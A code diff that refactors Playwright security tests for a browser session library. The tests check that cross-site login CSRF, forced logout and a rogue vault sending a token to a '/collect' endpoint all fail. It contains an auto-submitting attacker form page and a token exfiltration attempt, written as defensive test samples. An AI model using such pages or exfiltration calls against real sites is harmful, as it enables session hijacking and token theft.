@@ -3,18 +3,15 @@
 // The second origin is the same host on another port: same-site, so the
 // browser sends it, and forms it posts, the SameSite=Strict refresh cookie,
 // like a sibling subdomain an attacker controls. Tokens are compared as booleans.
-import { expect, test, type BrowserContext, type Page } from '@playwright/test'
+import type { BrowserContext, Page } from '@playwright/test'
 import { SECOND_PORT } from '../../playwright.config.js'
-import { login, openHarness, startSession, state } from '../support/harness.js'
-import { ORIGIN, SECOND_ORIGIN, TestServer } from '../support/server.js'
+import { expect, test } from '../support/fixtures.js'
+import { login, signIn, state } from '../support/harness.js'
+import { ORIGIN, SECOND_ORIGIN } from '../support/server.js'
 import { openTab } from '../support/termination.js'
 
 const BOB = { username: 'bob', password: 'battery staple' }
 const REFRESH_COOKIE = '__Host-sv_rt'
-
-test.beforeEach(async ({ request }) => {
-  await new TestServer(request).reset()
-})
 
 /** The attacker's own refresh token: bob signs in from outside the browser. */
 async function attackerRefreshToken(): Promise<string> {
@@ -40,14 +37,14 @@ async function crossSiteForm(context: BrowserContext, action: string, fields: Re
   const inputs = Object.entries(fields)
     .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
     .join('')
-  await evil.route(`${SECOND_ORIGIN}/attacker.html`, (route) =>
+  await evil.route(`${SECOND_ORIGIN}/attacker.html`, route =>
     route.fulfill({
       status: 200,
       contentType: 'text/html; charset=utf-8',
       body: `<!doctype html><title>cute cats</title><form method="post" action="${action}">${inputs}</form><script>document.forms[0].submit()</script>`,
     }),
   )
-  const answered = evil.waitForResponse((response) => response.url() === action && response.request().method() === 'POST')
+  const answered = evil.waitForResponse(response => response.url() === action && response.request().method() === 'POST')
   await evil.goto(`${SECOND_ORIGIN}/attacker.html`)
   const status = (await answered).status()
   await evil.waitForLoadState()
@@ -57,22 +54,21 @@ async function crossSiteForm(context: BrowserContext, action: string, fields: Re
 
 async function whoAmI(page: Page): Promise<unknown> {
   return page.evaluate(() =>
-    (window as any).attempt(async () => {
-      const response: Response = await (window as any).session.fetch('/api/me')
+    window.attempt(async () => {
+      const response: Response = await window.session.fetch('/api/me')
       return response.status === 200 ? (await response.json()).username : response.status
     }),
   )
 }
 
 async function hasCookie(context: BrowserContext, name: string): Promise<boolean> {
-  return (await context.cookies(ORIGIN)).some((cookie) => cookie.name === name && cookie.value !== '')
+  return (await context.cookies(ORIGIN)).some(cookie => cookie.name === name && cookie.value !== '')
 }
 
 test("login CSRF: a second-origin page posting the attacker's refresh token to /auth/refresh does not switch the victim's tab from alice to bob", async ({
+  server,
   context,
-  request,
 }) => {
-  const server = new TestServer(request)
   const { page: victim } = await openTab(context)
   expect(await login(victim)).toEqual({ ok: true })
   expect(await whoAmI(victim)).toEqual({ ok: true, value: 'alice' })
@@ -94,8 +90,10 @@ test("login CSRF: a second-origin page posting the attacker's refresh token to /
   expect(status).toBe(403)
 })
 
-test('forced logout: a second-origin form to /auth/logout ends nothing and wipes no cookie', async ({ context, request }) => {
-  const server = new TestServer(request)
+test('forced logout: a second-origin form to /auth/logout ends nothing and wipes no cookie', async ({
+  server,
+  context,
+}) => {
   const { page: victim } = await openTab(context)
   expect(await login(victim)).toEqual({ ok: true })
   expect(await hasCookie(context, REFRESH_COOKIE)).toBe(true)
@@ -117,7 +115,10 @@ test("a failed cross-site refresh does not clear the victim's refresh cookie", a
   const { page: victim } = await openTab(context)
   expect(await login(victim)).toEqual({ ok: true })
 
-  const status = await crossSiteForm(context, `${ORIGIN}/auth/refresh`, { grant_type: 'refresh_token', refresh_token: 'garbage' })
+  const status = await crossSiteForm(context, `${ORIGIN}/auth/refresh`, {
+    grant_type: 'refresh_token',
+    refresh_token: 'garbage',
+  })
   expect(await hasCookie(context, REFRESH_COOKIE)).toBe(true)
   const { state: restored } = await openTab(context)
   expect(restored).toBe('authenticated')
@@ -125,10 +126,9 @@ test("a failed cross-site refresh does not clear the victim's refresh cookie", a
 })
 
 test('worker CSP: a second vault that injected script creates with its own trustedOrigins cannot send a token to another origin', async ({
+  server,
   context,
-  request,
 }) => {
-  const server = new TestServer(request)
   const { page } = await openTab(context)
   expect(await login(page)).toEqual({ ok: true })
 
@@ -136,8 +136,8 @@ test('worker CSP: a second vault that injected script creates with its own trust
   // origin. At start-up it restores the session through the refresh cookie and holds a token.
   // (`localhost` is the second origin's server under a host name the test-mode worker CSP does not list.)
   const exfil = `http://localhost:${SECOND_PORT}/collect`
-  const outcome = await page.evaluate(async (url) => {
-    const rogue = (window as any).SessionVault.createSession({
+  const outcome = await page.evaluate(async url => {
+    const rogue = window.SessionVault.createSession({
       auth: { type: 'token', loginUrl: '/auth/login', refreshUrl: '/auth/refresh' },
       trustedOrigins: [location.origin, new URL(url).origin],
       idle: false,
@@ -146,7 +146,7 @@ test('worker CSP: a second vault that injected script creates with its own trust
     })
     await rogue.ready
     const signedIn = rogue.state
-    const sent = await (window as any).attempt(async () => (await rogue.fetch(url)).status)
+    const sent = await window.attempt(async () => (await rogue.fetch(url)).status)
     rogue.destroy()
     return { signedIn, sent }
   }, exfil)
@@ -158,10 +158,10 @@ test('worker CSP: a second vault that injected script creates with its own trust
 })
 
 test('the page itself signs in and stays signed in under the worker CSP', async ({ page }) => {
-  await openHarness(page)
-  expect(await startSession(page)).toEqual({ state: 'anonymous' })
-  expect(await login(page)).toEqual({ ok: true })
+  await signIn(page)
   expect(await whoAmI(page)).toEqual({ ok: true, value: 'alice' })
-  const csp = await page.evaluate(async () => (await fetch('/assets/vault.worker.js', { cache: 'no-store' })).headers.get('content-security-policy'))
+  const csp = await page.evaluate(async () =>
+    (await fetch('/assets/vault.worker.js', { cache: 'no-store' })).headers.get('content-security-policy'),
+  )
   expect(csp).toBe(`default-src 'none'; connect-src ${ORIGIN} http://127.0.0.1:*`)
 })
